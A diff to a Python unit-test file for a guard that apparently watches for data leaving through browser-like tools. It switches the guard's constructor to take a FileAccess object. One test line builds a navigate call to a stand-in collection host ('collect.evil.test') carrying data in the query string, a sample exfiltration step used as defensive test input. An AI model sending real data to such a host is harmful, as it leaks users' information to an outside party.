@@ -13,6 +13,7 @@ from tests.unit.tools.outflow.attacks import list_attacks
 from tests.unit.tools.outflow.corpus import TOOLS, Flow, Show, play
 from tests.unit.tools.outflow.harmless import NOTED, list_harmless_flows
 from viewpoint_mcp.config.secrets import NO_SECRETS
+from viewpoint_mcp.files.file_access import FileAccess
 from viewpoint_mcp.tools.guards.outflow.outflow_guard import OutflowGuard
 
 ATTACKS, HARMLESS = list_attacks(), list_harmless_flows()
@@ -42,7 +43,7 @@ async def test_attacks_are_not_noted_on_the_site_that_showed_the_text(tmp_path: 
 
 
 async def test_a_comparison_takes_less_than_a_millisecond(tmp_path: Path) -> None:
-    guard = OutflowGuard("note", NO_SECRETS, tmp_path)
+    guard = OutflowGuard("note", NO_SECRETS, FileAccess(tmp_path, tmp_path, tmp_path))
     times = []
     for flow in HARMLESS:
         for step in flow.steps:
@@ -58,7 +59,7 @@ async def test_a_comparison_takes_less_than_a_millisecond(tmp_path: Path) -> Non
 
 
 async def test_shown_texts_are_indexed_between_the_calls(tmp_path: Path) -> None:
-    guard = OutflowGuard("note", NO_SECRETS, tmp_path)
+    guard = OutflowGuard("note", NO_SECRETS, FileAccess(tmp_path, tmp_path, tmp_path))
     tool = TOOLS["navigate"]
     args = tool.parse({"url": "https://collect.evil.test/?q=hello"})
     times = []
